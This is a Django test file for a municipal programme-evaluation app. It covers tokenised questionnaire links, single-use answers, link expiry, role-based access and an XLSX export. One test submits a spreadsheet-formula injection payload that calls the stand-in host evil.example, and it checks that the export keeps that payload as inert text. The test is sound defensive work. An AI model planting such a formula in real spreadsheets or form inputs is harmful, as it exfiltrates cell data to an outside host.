import io

import openpyxl
import time_machine
from django.urls import reverse

from profploeg.evaluations import services
from profploeg.evaluations.models import Invitation, Response
from profploeg.test import PASSWORD

from .base import EvaluationTestCase


class AnswerPageTests(EvaluationTestCase):
    def setUp(self):
        super().setUp()
        self.invitation = Invitation.objects.get(trajectory=self.complete())
        self.url = reverse("evaluations:answer", args=[self.invitation.token])

    def post_answers(self):
        data = {"m1": "carried_out", "m2": "planned", "m3": "not_planned"}
        for question in self.invitation.questionnaire.active_questions():
            if question.kind == "scale":
                data[f"q{question.pk}"] = "4"
            elif question.kind == "text":
                data[f"q{question.pk}"] = "Meer volk op de markt."
        return self.client.post(self.url, data)

    def test_the_link_opens_the_questionnaire_without_logging_in(self):
        response = self.client.get(self.url)
        self.assertContains(response, "Hoe tevreden bent u over de begeleiding?")
        self.assertContains(response, "Pop-upcontracten met eigenaars")
        self.assertEqual(response["Referrer-Policy"], "no-referrer")
        self.assertIn("noindex", response["X-Robots-Tag"])

    def test_an_unknown_token_is_not_found(self):
        response = self.client.get(reverse("evaluations:answer", args=["raad-maar-eens"]))
        self.assertEqual(response.status_code, 404)

    def test_answering_through_the_link_works_once(self):
        self.assertContains(self.post_answers(), "were received")
        self.assertEqual(Response.objects.count(), 1)
        again = self.post_answers()
        self.assertContains(again, "already answered")
        self.assertNotContains(again, "Send my answers")
        self.assertEqual(Response.objects.count(), 1)

    def test_missing_answers_are_shown_and_nothing_is_kept(self):
        response = self.client.post(self.url, {})
        self.assertContains(response, "Choose a score from 1 to 5.")
        self.assertEqual(Response.objects.count(), 0)

    def test_an_expired_link_says_so_and_is_gone(self):
        with time_machine.travel(self.invitation.expires_at):
            response = self.client.get(self.url)
        self.assertContains(response, "This link expired", status_code=410)


class EvaluationPageTests(EvaluationTestCase):
    def setUp(self):
        super().setUp()
        self.trajectory_ = self.complete()
        self.invitation = Invitation.objects.get(trajectory=self.trajectory_)
        self.answer_all(self.invitation)
        self.url = reverse("evaluations:programme", args=[self.programme.pk])

    def login(self, user):
        self.client.login(username=user.username, password=PASSWORD)

    def test_staff_see_response_rate_scores_and_comments(self):
        self.login(self.staff)
        response = self.client.get(self.url)
        self.assertContains(response, "100.0%")
        self.assertContains(response, "Antwoord op Hebt u nog opmerkingen of suggesties?")

    def test_staff_download_the_evaluation_as_xlsx(self):
        self.login(self.staff)
        response = self.client.get(self.url + "?format=xlsx")
        self.assertEqual(response.status_code, 200)
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        self.assertEqual(len(workbook.sheetnames), 8)
        summary = workbook.worksheets[0]
        values = [row[1].value for row in summary.iter_rows(min_row=2)]
        # sent, answered
        self.assertEqual(values[3:5], [1, 1])

    def test_an_answer_that_looks_like_a_formula_stays_text_in_the_xlsx(self):
        trajectory = self.complete(self.brugge)
        invitation = Invitation.objects.get(trajectory=trajectory)
        questions = list(invitation.questionnaire.active_questions())
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
        services.submit_response(
            invitation=invitation,
            scores={q.pk: 4 for q in questions if q.kind == "scale"},
            texts={q.pk: hostile for q in questions if q.kind == "text"},
            measures={1: "carried_out", 2: "planned", 3: "not_planned"},
        )
        self.login(self.staff)
        response = self.client.get(self.url + "?format=xlsx")
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and "evil.example" in cell.value
        ]
        self.assertTrue(cells)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")

    def test_other_roles_do_not_see_the_evaluation_page(self):
        for user in (self.expert, self.alice, self.paula):
            self.login(user)
            self.assertEqual(self.client.get(self.url).status_code, 403)

    def test_the_municipality_reads_its_own_answers(self):
        self.login(self.alice)
        response = self.client.get(reverse("evaluations:trajectory", args=[self.trajectory_.pk]))
        self.assertContains(response, "Antwoord op Wat is er in uw kern al veranderd?")

    def test_the_province_sees_that_it_was_answered_but_not_the_answers(self):
        self.login(self.paula)
        response = self.client.get(reverse("evaluations:trajectory", args=[self.trajectory_.pk]))
        self.assertContains(response, "Answered on")
        self.assertNotContains(response, "Antwoord op")

    def test_another_municipality_gets_404(self):
        self.login(self.bob)
        response = self.client.get(reverse("evaluations:trajectory", args=[self.trajectory_.pk]))
        self.assertEqual(response.status_code, 404)

    def test_an_expert_records_an_indicator_on_the_page(self):
        self.login(self.expert)
        response = self.client.post(
            reverse("evaluations:trajectory", args=[self.trajectory_.pk]),
            {
                "kind": "footfall",
                "moment": "before",
                "value": "1250",
                "measured_on": "2021-11-15",
                "source": "Passantentelling Locatus",
            },
        )
        self.assertEqual(response.status_code, 302)
        self.assertEqual(self.trajectory_.indicators.get().source, "Passantentelling Locatus")

    def test_staff_send_the_follow_up_from_the_page(self):
        self.login(self.staff)
        response = self.client.post(
            reverse("evaluations:follow_up", args=[self.programme.pk]),
            {"completed_before": "2023-01-01"},
            follow=True,
        )
        self.assertContains(response, "sent to 1 municipalities")
